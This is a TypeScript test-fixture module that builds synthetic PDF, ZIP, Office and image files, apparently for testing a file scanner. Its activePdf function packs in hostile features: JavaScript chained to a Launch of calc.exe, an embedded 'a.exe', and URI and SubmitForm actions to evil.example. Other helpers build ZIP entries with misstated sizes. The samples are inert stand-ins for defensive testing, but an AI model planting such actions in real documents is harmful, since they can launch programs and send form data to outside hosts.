import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/** A PDF of one blank page, with what a test wants in it: dictionaries of further objects, or whole streams. */
export function pdfOf(text = 'a page', ...objects: readonly (string | Buffer)[]): Buffer {
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> % ${text}`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ...objects,
  ];
  const parts = bodies.flatMap((body, index) => [`${index + 1} 0 obj\n`, body, '\nendobj\n']);
  const before = Buffer.concat(['%PDF-1.7\n', ...parts].map((part) => Buffer.from(part)));
  const trailer = `trailer << /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${before.length}\n%%EOF\n`;
  return Buffer.concat([before, Buffer.from(trailer)]);
}

/** A PDF of one page on which these lines can be read. */
export function pdfSaying(...lines: readonly string[]): Buffer {
  const escaped = lines.map((line) => line.replaceAll(/[\\()]/g, '\\$&'));
  const page = `BT /F1 12 Tf 15 TL 50 780 Td ${escaped.map((line) => `(${line}) Tj T*`).join(' ')} ET`;
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${Buffer.byteLength(page, 'latin1')} >>\nstream\n${page}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  return pdfFrom(bodies);
}

/** With its objects in their order and a table that says where each lies. */
export function pdfFrom(bodies: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = parts[0]?.length ?? 0;
  const places = bodies.map((body, index) => {
    const place = length;
    for (const part of [`${index + 1} 0 obj\n`, body, '\nendobj\n']) {
      const bytes = typeof part === 'string' ? Buffer.from(part, 'latin1') : part;
      parts.push(bytes);
      length += bytes.length;
    }
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const xref = `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  const trailer = `trailer << /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref + trailer, 'latin1')]);
}

/** A PDF with a page, words and a link, and everything that a PDF can do besides. */
export function activePdf(): Buffer {
  const page = 'BT /F1 12 Tf 50 780 Td (This page stays) Tj ET';
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm 10 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >> /AF [8 0 R] >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 7 0 R >> /Annots [11 0 R 12 0 R 13 0 R] >>',
    `<< /Length ${page.length} >>\nstream\n${page}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (calc.exe) >> >>',
    '<< /S /URI /URI (https://evil.example/opened) >>',
    '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
    '<< /Fields [14 0 R] /SigFlags 3 /XFA (<xdp/>) >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.kvk.example) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>',
    '<< /FT /Sig /T (s) /V << /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >> >>',
  ];
  return pdfFrom(bodies);
}

/** Objects as PDFs since version 1.5 hide them: compressed together in a stream. */
export function objectStream(objects: string): Buffer {
  const packed = deflateSync(objects);
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>`;
  return Buffer.concat([Buffer.from(`${dictionary}\nstream\n`), packed, Buffer.from('\nendstream')]);
}

interface Entry {
  readonly name: string;
  readonly content?: string | Buffer;
  /** What the table of contents says of it, where it lies. */
  readonly claimedBytes?: number;
  /** Says its size in the 64-bit field, as some programs always do. */
  readonly hasLongSize?: boolean;
  readonly isEncrypted?: boolean;
  /** 8 where the content is deflated already. */
  readonly method?: 0 | 8;
}

/** A ZIP file whose entries are stored as they are. */
export function zipOf(entries: readonly Entry[]): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const {
    name,
    content = '',
    claimedBytes,
    hasLongSize = false,
    isEncrypted = false,
    method = 0,
  } of entries) {
    const [bytes, named] = [Buffer.from(content), Buffer.from(name)];
    const shared = Buffer.alloc(26);
    shared.writeUInt16LE(20, 0);
    shared.writeUInt16LE(isEncrypted ? 1 : 0, 2);
    shared.writeUInt16LE(method, 4);
    shared.writeUInt32LE(crc32(bytes), 10);
    shared.writeUInt32LE(bytes.length, 14);
    shared.writeUInt32LE(claimedBytes ?? bytes.length, 18);
    shared.writeUInt16LE(named.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(offset, 10);
    local.push(Buffer.from('PK\x03\x04'), shared, named, bytes);
    const described = Buffer.from(shared);
    const long = Buffer.alloc(hasLongSize ? 12 : 0);
    if (hasLongSize) {
      described.writeUInt32LE(0xffff_ffff, 18);
      described.writeUInt16LE(long.length, 24);
      long.writeUInt16LE(1, 0);
      long.writeUInt16LE(8, 2);
      long.writeBigUInt64LE(BigInt(claimedBytes ?? bytes.length), 4);
    }
    central.push(Buffer.from('PK\x01\x02\x14\x00'), described, place, named, long);
    offset += 30 + named.length + bytes.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

function contentTypes(partName: string, contentType: string): Entry {
  const content = `<?xml version="1.0"?><Types><Override PartName="${partName}" ContentType="${contentType}"/></Types>`;
  return { name: '[Content_Types].xml', content };
}

export function docxOf(...more: readonly Entry[]): Buffer {
  const types = contentTypes('/word/document.xml', WORD);
  return zipOf([
    types,
    { name: '_rels/.rels' },
    { name: 'word/document.xml', content: '<w:document/>' },
    ...more,
  ]);
}

export function xlsxOf(...more: readonly Entry[]): Buffer {
  return zipOf([
    contentTypes('/xl/workbook.xml', SHEET),
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    ...more,
  ]);
}

export function openDocumentOf(kind: 'text' | 'spreadsheet', ...more: readonly Entry[]): Buffer {
  const mimetype = { name: 'mimetype', content: `application/vnd.oasis.opendocument.${kind}` };
  return zipOf([mimetype, { name: 'content.xml', content: '<office/>' }, ...more]);
}

/** The first bytes by which pictures are known; nothing looks further into them. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
export const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
export const TIFF = Buffer.from('49492a0008000000000000000000', 'hex');

/** As many zeros, as they lie in a ZIP file. */
export function deflated(bytes: number): Buffer {
  return deflateRawSync(Buffer.alloc(bytes));
}
